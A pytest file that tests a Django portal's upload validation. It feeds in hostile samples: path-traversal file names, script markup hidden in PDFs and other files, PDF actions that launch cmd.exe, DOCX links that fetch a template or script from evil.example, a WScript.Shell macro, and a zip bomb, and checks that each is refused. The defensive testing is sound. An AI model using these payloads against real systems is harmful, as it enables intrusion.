"""Uploads are judged by content: real files of every format pass, disguised ones fail."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from portal.uploads import inspect_upload, safe_file_name
from tests import files

ALL = ["pdf", "image", "hwp", "hwpx", "xlsx", "docx"]
MB = 1024 * 1024


@pytest.mark.parametrize(("make", "expected"), [
    (files.pdf, "pdf"), (files.png, "image"), (files.hwp, "hwp"), (files.hwpx, "hwpx"), (files.xlsx, "xlsx"), (files.docx, "docx"),
])
def test_real_files_are_recognised_by_content(make, expected):
    assert inspect_upload(make(), formats=ALL, max_bytes=MB).format == expected


@pytest.mark.parametrize(("make", "code"), [
    (files.exe_named_pdf, "executable"),
    (files.html_named_png, "unknown_format"),
    (files.png_with_script, "unknown_format"),
    (files.polyglot_pdf, "unknown_format"),
])
def test_disguised_files_are_refused(make, code):
    with pytest.raises(ValidationError) as refused:
        inspect_upload(make(), formats=ALL, max_bytes=MB)
    assert refused.value.code == code


def test_a_docx_where_only_pdf_is_accepted_is_refused_with_both_names():
    with pytest.raises(ValidationError) as refused:
        inspect_upload(files.docx("plan.pdf"), formats=["pdf"], max_bytes=MB)
    assert refused.value.code == "wrong_format"
    assert "DOCX" in refused.value.messages[0] and "PDF" in refused.value.messages[0]


def test_oversized_files_are_refused_before_reading():
    with pytest.raises(ValidationError) as refused:
        inspect_upload(files.pdf(size=2 * MB), formats=["pdf"], max_bytes=MB)
    assert refused.value.code == "too_large"


@pytest.mark.parametrize(("name", "safe"), [
    ("../../x.pdf", "x.pdf"), ("..\\..\\windows\\x.pdf", "x.pdf"), ("/etc/passwd", "passwd"),
    ("사업\x00계획서.pdf", "사업계획서.pdf"), ("", "document.pdf"), (".hidden.pdf", "hidden.pdf"),
])
def test_hostile_file_names_are_made_harmless(name, safe):
    assert safe_file_name(name, fallback_ext="pdf") == safe


def test_very_long_names_keep_their_extension():
    assert safe_file_name("가" * 400 + ".pdf", fallback_ext="pdf").endswith(".pdf")
    assert len(safe_file_name("가" * 400 + ".pdf", fallback_ext="pdf")) <= 150


def test_the_documents_step_says_a_new_file_replaces_the_old_one(client, alice, complete_draft):
    from tests.conftest import PASSWORD

    client.post("/accounts/login/", {"login": alice.email, "password": PASSWORD})
    html = client.get(f"/applications/{complete_draft.pk}/edit/documents/").content.decode()
    assert "이 서류는 파일 하나만 받습니다. 새로 올리면 위의 파일을 대신합니다." in html
    assert ">파일 바꾸기</button>" in html and "파일 추가" not in html.split("기타")[0]
    assert 'class="button button-small button-remove"' in html  # removing looks like an action, not a file link
    assert '<progress class="upload-progress"' in html


def pdf_carrying(markup: bytes, *, at: int, size: int) -> bytes:
    """A well-formed one-page PDF of `size` bytes whose comment after the header holds `markup` at byte `at`."""
    data = bytearray(files.pdf_bytes(size=size))
    assert data[at - 1:at + len(markup) + 1].strip(b"0") == b"" and b"\n" not in markup  # inside the comment
    data[at:at + len(markup)] = markup
    return bytes(data)


def test_markup_anywhere_in_a_large_pdf_is_refused_not_only_in_its_first_4_kb(client, alice, complete_draft):
    """A polyglot used to pass with its script placed after the first 4 KB. Here the script
    starts three bytes before the end of the scanner's first 256 KB chunk, split between two
    reads, in a 6 MB upload that Django keeps on disk."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from portal.uploads import SCAN_CHUNK
    from tests.conftest import PASSWORD
    from tests.test_crafted_files import NOT_ACCEPTED

    crafted = pdf_carrying(b"<script>alert(1)</script>", at=SCAN_CHUNK - 3, size=6 * MB)
    assert crafted[:4096].lower().find(b"<script") == -1
    client.post("/accounts/login/", {"login": alice.email, "password": PASSWORD})
    requirement = complete_draft.call.required_documents.get(kind="business_plan")
    before = list(complete_draft.documents.values_list("pk", flat=True))
    response = client.post(f"/applications/{complete_draft.pk}/edit/documents/",
                           {"requirement": requirement.pk, "file": SimpleUploadedFile("사업계획서.pdf", crafted)}, follow=True)
    assert response.status_code == 200 and NOT_ACCEPTED in response.content.decode()
    assert list(complete_draft.documents.values_list("pk", flat=True)) == before
    # The same file without the script is accepted.
    clean = pdf_carrying(b"<p>", at=SCAN_CHUNK - 3, size=6 * MB)
    response = client.post(f"/applications/{complete_draft.pk}/edit/documents/",
                           {"requirement": requirement.pk, "file": SimpleUploadedFile("사업계획서.pdf", clean)}, follow=True)
    assert NOT_ACCEPTED not in response.content.decode(), response.content.decode()[:3000]
    assert complete_draft.documents.filter(requirement=requirement, size=6 * MB).exists()


@pytest.mark.parametrize("make", [files.png, files.hwp, files.hwpx, files.xlsx, files.docx])
def test_markup_appended_to_any_accepted_format_is_refused(make):
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = make().read() + b"\n" + b"\0" * 5000 + b"<svg onload=alert(1)>"
    with pytest.raises(ValidationError) as refused:
        inspect_upload(SimpleUploadedFile("file", data), formats=ALL, max_bytes=MB)
    assert refused.value.code == "unknown_format"


def test_a_large_upload_is_inspected_in_bounded_memory(tmp_path):
    """40 MB on disk, read a chunk at a time: Python's allocations stay a few hundred KB
    (reading it whole, as before, took 40 MB and more)."""
    import tracemalloc

    from django.core.files.uploadedfile import TemporaryUploadedFile

    upload = TemporaryUploadedFile("plan.pdf", "application/pdf", 40 * MB, None)
    upload.write(pdf_carrying(b"", at=1024, size=40 * MB))
    upload.seek(0)
    tracemalloc.start()
    inspected = inspect_upload(upload, formats=["pdf"], max_bytes=50 * MB)
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    upload.close()
    assert inspected.format == "pdf" and inspected.size == 40 * MB
    assert peak < 2 * MB, f"peak {peak / MB:.1f} MB"


# --- Active content inside compressed parts (portal/active_content.py) -------------------

PDF_REFUSED = "이 PDF에는 올릴 수 없는 내용이 들어 있습니다: {what}. 그런 내용 없이 PDF로 다시 저장하거나 인쇄해 올려 주세요."
DOCUMENT_REFUSED = "이 문서에는 올릴 수 없는 내용이 들어 있습니다: {what}. 그런 내용 없이(매크로 없는 .docx, .xlsx, .hwpx로) 다시 저장해 올려 주세요."
SCRIPT, ACTION, LAUNCH, EMBEDDED = "스크립트(JavaScript)", "열거나 사용할 때 실행되는 동작", "프로그램을 실행하는 명령", "첨부된 파일"
MACROS, SCRIPTS, OBJECTS = "매크로(VBA)", "스크립트나 프로그램", "프로그램을 실행할 수 있는 삽입 개체(OLE 패키지, 수식 편집기 3.0)"
OUTSIDE = "열 때 외부 내용을 불러오거나 실행하는 연결"
BOMB = "이 파일은 압축을 풀면 512 MB를 넘거나 항목이 10,000개를 넘어 문서라고 볼 수 없으므로 받지 않습니다."


def refusal(upload) -> tuple[str, str]:
    with pytest.raises(ValidationError) as refused:
        inspect_upload(upload, formats=ALL, max_bytes=20 * MB)
    return refused.value.code, refused.value.messages[0]


@pytest.fixture
def applicant(client, alice):
    from tests.conftest import PASSWORD

    client.post("/accounts/login/", {"login": alice.email, "password": PASSWORD})
    return client


def upload_plan(client, application, upload):
    requirement = application.call.required_documents.get(kind="business_plan")
    response = client.post(f"/applications/{application.pk}/edit/documents/", {"requirement": requirement.pk, "file": upload}, follow=True)
    assert response.status_code == 200
    return response.content.decode()


def test_a_pdf_with_javascript_inside_a_compressed_object_stream_is_refused(applicant, complete_draft):
    """The finding: active content was looked for in the raw bytes, where a compressed object
    stream shows none of it."""
    import io

    from portal.uploads import has_active_content

    upload = files.pdf_with_javascript_in_an_object_stream()
    data = upload.read()
    assert b"JavaScript" not in data and b"/JS" not in data and not has_active_content(io.BytesIO(data))
    upload.seek(0)
    before = list(complete_draft.documents.values_list("pk", flat=True))
    page = upload_plan(applicant, complete_draft, upload)
    assert PDF_REFUSED.format(what=SCRIPT) in page
    assert list(complete_draft.documents.values_list("pk", flat=True)) == before


@pytest.mark.parametrize(("catalog", "what"), [
    (b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", SCRIPT),  # the names escaped: no "JavaScript" in the bytes
    (b"/OpenAction << /S /Launch /F (cmd.exe) >>", LAUNCH),
    (b"/OpenAction << /S /URI /URI (http://example.com/) >>", ACTION),
    (b"/AA << /WC << /S /Named /N /Print >> >>", ACTION),
    (b"/Names << /EmbeddedFiles << /Names [] >> >>", EMBEDDED),
    (b"/AcroForm << /Fields [] /XFA 4 0 R >>", SCRIPT),
])
def test_active_content_anywhere_in_a_pdf_is_refused(catalog, what):
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", *files.PAGE[1:], b"<< /Length 0 >>\nstream\n\nendstream"]
    code, message = refusal(SimpleUploadedFile("plan.pdf", files.pdf_bytes(objects=objects)))
    assert (code, message) == ("active_content", PDF_REFUSED.format(what=what))


def test_a_pdf_that_opens_at_its_first_page_and_links_to_the_web_is_accepted():
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", files.PAGE[1],
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
               b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://www.mss.go.kr/) >> >>"]
    assert inspect_upload(SimpleUploadedFile("plan.pdf", files.pdf_bytes(objects=objects)), formats=ALL, max_bytes=MB).format == "pdf"


def test_a_pdf_that_needs_a_password_is_refused_and_one_only_restricted_is_read():
    import io

    import pikepdf

    def encrypted(user: str) -> SimpleUploadedFile:
        document = pikepdf.new()
        document.add_blank_page()
        buffer = io.BytesIO()
        document.save(buffer, encryption=pikepdf.Encryption(user=user, owner="owner-secret", R=6))
        return SimpleUploadedFile("plan.pdf", buffer.getvalue())

    assert refusal(encrypted("secret")) == ("encrypted", "이 PDF는 암호로 보호되어 있어 내용을 확인할 수 없습니다. 암호를 해제한 뒤 다시 올려 주세요.")
    assert inspect_upload(encrypted(""), formats=ALL, max_bytes=MB).format == "pdf"  # opens without a password: checked, accepted


def test_a_pdf_no_reader_can_open_is_refused_as_damaged():
    damaged = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"  # no page at all
    assert refusal(SimpleUploadedFile("plan.pdf", damaged)) == (
        "damaged", "이 PDF 파일은 손상되어 읽을 수 없으므로 내용을 확인할 수 없습니다. 다시 저장해 올려 주세요.")


def test_a_docx_with_a_vba_project_is_refused(applicant, complete_draft):
    before = complete_draft.documents.count()
    page = upload_plan(applicant, complete_draft, files.docx_with_macros("사업계획서.docx"))
    assert DOCUMENT_REFUSED.format(what=MACROS) in page
    assert complete_draft.documents.count() == before


@pytest.mark.parametrize(("parts", "what"), [
    ({"[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" '
                             b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}, MACROS),
    ({"word/activeX/activeX1.xml": b"<ax:ocx/>"}, "ActiveX 컨트롤"),
    ({"word/media/run.js": b"WScript.Shell"}, SCRIPTS),
    ({"word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                                      b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
                                      b'TargetMode="External"/></Relationships>'}, OUTSIDE),
    ({"word/_rels/document.xml.rels": b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
                                      b'officeDocument/2006/relationships/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:'
                                      b'http://evil.example/x.html" TargetMode="External"/></Relationships>'}, OUTSIDE),
    ({"word/_rels/document.xml.rels": b'<Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/'
                                      b'officeDocument/2006/relationships/hyperlink" Target="https://evil.example/update.js" '
                                      b'TargetMode="External"/></Relationships>'}, OUTSIDE),
    ({"word/embeddings/oleObject1.bin": files.ole({"\x01Ole10Native": b"\x00" * 100})}, OBJECTS),
    ({"word/embeddings/oleObject2.bin": files.ole({"Equation Native": b"\x00" * 100})}, OBJECTS),
    ({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": files.docx_with({"xl/vbaProject.bin": b"x"}).read()}, MACROS),
])
def test_macros_scripts_and_outside_content_inside_a_document_are_refused(parts, what):
    assert refusal(files.docx_with(parts)) == ("active_content", DOCUMENT_REFUSED.format(what=what))


def test_a_document_with_web_links_a_chart_workbook_and_a_plain_ole_object_is_accepted():
    rels = (b'<Relationships><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            b'Target="https://www.mss.go.kr/site/smba/main.do?a=1&amp;b=2" TargetMode="External"/>'
            b'<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
            b'Target="mailto:support@example.kr" TargetMode="External"/></Relationships>')
    upload = files.docx_with({"word/_rels/document.xml.rels": rels, "word/embeddings/Microsoft_Excel_Worksheet.xlsx": files.xlsx().read(),
                              "word/embeddings/oleObject1.bin": files.ole({"Workbook": b"\x00" * 300}), "word/media/image1.png": files.png().read()})
    assert inspect_upload(upload, formats=ALL, max_bytes=MB).format == "docx"


def test_an_hwpx_as_hancom_office_saves_it_is_accepted_and_one_with_a_macro_is_not(applicant, complete_draft):
    assert inspect_upload(files.hwpx_saved_by_hancom(), formats=ALL, max_bytes=MB).format == "hwpx"
    macro = "function OnDocument_Open()\r\n{\r\n\tvar shell = new ActiveXObject(\"WScript.Shell\"); shell.Run(\"calc\");\r\n}\r\n"
    page = upload_plan(applicant, complete_draft, files.hwpx_saved_by_hancom(source_script=macro.encode("utf-16-le")))
    assert DOCUMENT_REFUSED.format(what=SCRIPTS) in page
    assert not complete_draft.documents.filter(detected_format="hwpx").exists()


def test_a_zip_bomb_is_refused_at_once(applicant, complete_draft):
    import time

    upload = files.zip_bomb("사업계획서.docx")
    assert upload.size < MB  # 640 MB of zeros once unpacked
    started = time.monotonic()
    assert refusal(upload) == ("unpacks_too_large", BOMB)
    assert time.monotonic() - started < 2, "the declared sizes are read, nothing is unpacked"
    upload.seek(0)
    assert BOMB in upload_plan(applicant, complete_draft, upload)
    assert not complete_draft.documents.filter(detected_format="docx").exists()


def test_clean_pdf_docx_and_hwpx_plans_are_accepted_through_the_page(applicant, complete_draft):
    for upload, found in ((files.pdf("사업계획서.pdf"), "pdf"), (files.docx("사업계획서.docx"), "docx"), (files.hwpx_saved_by_hancom(), "hwpx")):
        upload_plan(applicant, complete_draft, upload)
        assert complete_draft.documents.filter(requirement__kind="business_plan").latest("pk").detected_format == found


def test_a_notice_attachment_with_a_script_is_refused_saying_why(client, olivia, call):
    from tests.conftest import login_with_mfa

    login_with_mfa(client, olivia)
    response = client.post(f"/officer/calls/{call.pk}/attachments/", {"title": "공고문", "file": files.pdf_with_javascript_in_an_object_stream("공고문.pdf")},
                           follow=True)
    assert PDF_REFUSED.format(what=SCRIPT) in response.content.decode()
    assert not call.attachments.exists()


# --- The second line of defence: how every uploaded file is served ---------------------------

def test_uploaded_files_are_served_as_sandboxed_attachments_never_sniffed(applicant, complete_draft, olivia, call):
    """Should a file with active content ever pass the checks, a browser still neither shows it
    inline, nor guesses its type from its bytes, nor runs anything in it opened directly."""
    from django.test import Client

    from tests.conftest import login_with_mfa

    upload_plan(applicant, complete_draft, files.pdf("사업계획서.pdf"))
    document = complete_draft.documents.filter(requirement__kind="business_plan").latest("pk")
    login_with_mfa(officer := Client(), olivia)
    officer.post(f"/officer/calls/{call.pk}/attachments/", {"title": "공고문", "file": files.pdf("공고문.pdf")})
    attachment = call.attachments.get()
    for client, path in ((applicant, f"/applications/{complete_draft.pk}/documents/{document.pk}/"),
                         (Client(), f"/calls/{call.code}/attachments/{attachment.pk}/")):
        response = client.get(path)
        assert response.status_code == 200, path
        assert response["Content-Disposition"].startswith("attachment;"), path
        assert response["Content-Type"] == "application/pdf", path
        assert response["X-Content-Type-Options"] == "nosniff", path
        assert response["Content-Security-Policy"] == "default-src 'none'; sandbox", path
